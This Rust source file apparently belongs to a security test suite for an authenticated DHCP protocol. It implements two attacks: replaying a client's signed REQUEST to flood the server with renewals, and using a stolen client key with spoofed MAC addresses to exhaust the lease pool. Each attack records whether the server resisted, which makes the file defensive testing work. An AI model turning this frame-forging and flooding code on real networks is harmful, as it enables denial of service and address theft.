//! Attacks 28 and 29: who has a client's own DHCP key, be it the client, uses it more often than it should, and for others.
//!
//! What is sent are copies of the client's own REQUEST, changed where they must differ, and where there is a key proved with it as
//! docs/protocol.md, section 22, says.

use std::net::Ipv4Addr;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use bump::Generator;
use identity::HostIdentity;
use wire::cll::DhcpFrame;
use wire::cll::dhcp::{ClientId, Speaker, Stamp, TAG_LEN, set_tag, tagged_parts};
use wire::ethernet::{HEADER_LEN, Header};
use wire::{EtherType, MacAddress};

use crate::attack::dhcp::{AT_ONCE, Cast, POOL, POOL_LEN, SOON};
use crate::attack::lease::Client;
use crate::attack::scene::{Finding, Scene, count};
use crate::failure::Failure;
use crate::net::{Frame, process};

/// REQUESTs of one client, and how fast they come.
const RENEWALS: u32 = 100;
const RENEWALS_PER_SECOND: u32 = 50;
/// What a server looks at of one client in a minute (docs/manual/configuration.md,
/// `dhcp.messages_per_minute`).
const LOOKED_AT: usize = 30;
/// How fast others' REQUESTs come.
const PER_SECOND: u32 = 20;
/// A stamp of the second in which the server started may be a recording; after this there is another one.
const SERVER_STARTED: Duration = Duration::from_millis(1100);
/// Counters that e's own frames of the same second do not reach.
const COUNTER_FROM: u32 = 1000;
/// Where a message has its transaction number.
const TRANSACTION_AT: usize = HEADER_LEN + 20 + 8 + 4;
/// The option for the address that is asked for, with its length.
const OPTION_REQUESTED: [u8; 2] = [50, 4];

/// What it takes to speak as e: its REQUEST and, where there is one, its identity.
struct Thief {
    request: Frame,
    mac: MacAddress,
    identity: Option<HostIdentity>,
    random: Generator,
    sent: u32,
}

impl Thief {
    /// Hears e's REQUEST among `heard`.
    fn new(scene: &Scene<'_>, cast: &Cast, heard: &[Frame]) -> Result<Thief, Failure> {
        let mac = cast.client.mac;
        let is_request = |frame: &&Frame| {
            // The type stands behind the cookie in what udhcpc writes.
            frame.source() == mac && frame.dhcp().is_some_and(|message| message[240..].starts_with(&[53, 1, 3]))
        };
        let missing = || Failure::Unreadable("the attacker heard no REQUEST".to_owned());
        let said = heard.iter().find(is_request).ok_or_else(missing)?;
        let header = Header { destination: MacAddress::BROADCAST, source: mac, ethertype: EtherType::IPV4 };
        let request = match said.dhcp_frame() {
            Some(frame) => Frame([&header.emit()[..], frame.packet].concat()),
            None => said.clone(),
        };
        let identity = scene.host_identity(&cast.client)?;
        Ok(Thief { request, mac, identity, random: Generator::from_seed([29; 32]), sent: 0 })
    }

    /// A REQUEST of the client `chaddr` for `wanted`, in a frame of `source`; proved with e's key as if it were the one of `source`.
    fn request(&mut self, source: MacAddress, chaddr: MacAddress, wanted: Option<Ipv4Addr>) -> Result<Frame, Failure> {
        let mut bytes = self.request.0.clone();
        replace(&mut bytes, &self.mac.0, &chaddr.0);
        if let (Some(wanted), Some(at)) = (wanted, find(&bytes, &OPTION_REQUESTED)) {
            bytes[at + 2..at + 6].copy_from_slice(&wanted.octets());
        }
        bytes[TRANSACTION_AT..TRANSACTION_AT + 4].copy_from_slice(&self.random.bytes::<4>());
        let plain = Frame(bytes).with_addresses(source, MacAddress::BROADCAST);
        self.sent += 1;
        // Gives it right checksums; the addresses are those that a client without an address uses.
        self.proved(source, plain.with_ipv4(Ipv4Addr::UNSPECIFIED, Ipv4Addr::BROADCAST))
    }

    fn proved(&mut self, source: MacAddress, plain: Frame) -> Result<Frame, Failure> {
        let Some(identity) = &self.identity else { return Ok(plain) };
        let missing = || Failure::Unreadable("the identity of e has no DHCP key".to_owned());
        let key = identity.dhcp_key().ok_or_else(missing)?;
        let unix_s = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
        let frame = DhcpFrame {
            speaker: Speaker::Client,
            tag: [0; TAG_LEN],
            client: ClientId { mac: source, ..key.client() },
            stamp: Stamp { unix_s, counter: COUNTER_FROM + self.sent },
            client_nonce: self.random.bytes(),
            server_nonce: [0; 16],
            certificate: identity.certificate().der(),
            packet: &plain.0[HEADER_LEN..],
        };
        let header = Header { destination: MacAddress::BROADCAST, source, ethertype: EtherType::CLL }.emit();
        let mut message = frame.emit();
        let [before, after] = tagged_parts(&message);
        let tag = key.tag(&[&header, before, after]);
        set_tag(&mut message, &tag);
        Ok(Frame([&header[..], &message].concat()))
    }
}

/// Attack 28: e asks for its address again and again, so that the server makes certificates and does nothing else.
pub fn endless_renewal(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let cast = Cast::of(scene)?;
    let _server = cast.serve(scene, AT_ONCE)?;
    let spy = scene.spy()?;
    let client = Client::start(scene, &cast.client)?;
    let mut thief = Thief::new(scene, &cast, &spy.stop()?)?;
    process::pause(SERVER_STARTED)?;
    let (mac, window) = (cast.client.mac, scene.open()?);
    let flood = (0..RENEWALS).map(|_| thief.request(mac, mac, Some(client.ip))).collect::<Result<Vec<_>, _>>()?;
    scene.replay(&flood, RENEWALS_PER_SECOND)?;
    process::pause(Duration::from_millis(300))?;
    let record = scene.close(window)?;
    let is_answer = |frame: &Frame| {
        // An ACK stands behind the cookie in what dnsmasq writes.
        frame.source() == cast.server.mac && frame.dhcp().is_some_and(|message| message[240..].starts_with(&[53, 1, 5]))
    };
    let answers = count(&record.loot, is_answer);
    Ok(Finding {
        reached: answers * 10 >= RENEWALS as usize * 9,
        harmless: answers <= LOOKED_AT,
        struck: count(&record.wire, |frame| flood.contains(frame)),
        said: format!("{answers} of {RENEWALS} renewals granted"),
        record,
    })
}

/// Attack 29: with e's key, the attacker asks for leases of clients that do not exist, and under e's client ID for those of others.
pub fn others_leases(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let cast = Cast::of(scene)?;
    let server = cast.serve(scene, AT_ONCE)?;
    let spy = scene.spy()?;
    let client = Client::start(scene, &cast.client)?;
    let mac = cast.client.mac;
    process::until("the lease in the server's file", SOON, || server.knows(mac))?;
    let mut thief = Thief::new(scene, &cast, &spy.stop()?)?;
    let window = scene.open()?;
    let mut flood = Vec::new();
    for (number, host) in (POOL[0]..=POOL[1]).enumerate() {
        let made_up = MacAddress([2, 0x66, 0, 0, 0, host]);
        let source = if number % 2 == 0 || thief.identity.is_none() { made_up } else { mac };
        flood.push(thief.request(source, made_up, Some(Ipv4Addr::new(10, 77, 0, host)))?);
    }
    scene.replay(&flood, PER_SECOND)?;
    process::pause(Duration::from_millis(300))?;
    let others = server.leases()?.iter().filter(|(holder, _)| *holder != mac).count();
    client.renew()?;
    let record = scene.close(window)?;
    Ok(Finding {
        // All but the one that e has.
        reached: others + 1 >= POOL_LEN,
        harmless: others == 0 && client.has_address()?,
        struck: count(&record.wire, |frame| flood.contains(frame)),
        said: format!("{others} of {POOL_LEN} addresses leased to others than e, whose key was stolen"),
        record,
    })
}

fn find(bytes: &[u8], wanted: &[u8]) -> Option<usize> {
    bytes.windows(wanted.len()).position(|window| window == wanted)
}

/// Puts `new` wherever `old` stands.
fn replace(bytes: &mut [u8], old: &[u8; 6], new: &[u8; 6]) {
    for at in 0..bytes.len().saturating_sub(old.len() - 1) {
        if bytes[at..].starts_with(old) {
            bytes[at..at + old.len()].copy_from_slice(new);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_place_of_an_address_is_changed() {
        let mut bytes = [&[9][..], &[1, 2, 3, 4, 5, 6], &[7], &[1, 2, 3, 4, 5, 6]].concat();
        replace(&mut bytes, &[1, 2, 3, 4, 5, 6], &[0; 6]);
        assert_eq!(bytes, [9, 0, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0, 0, 0]);
    }
}
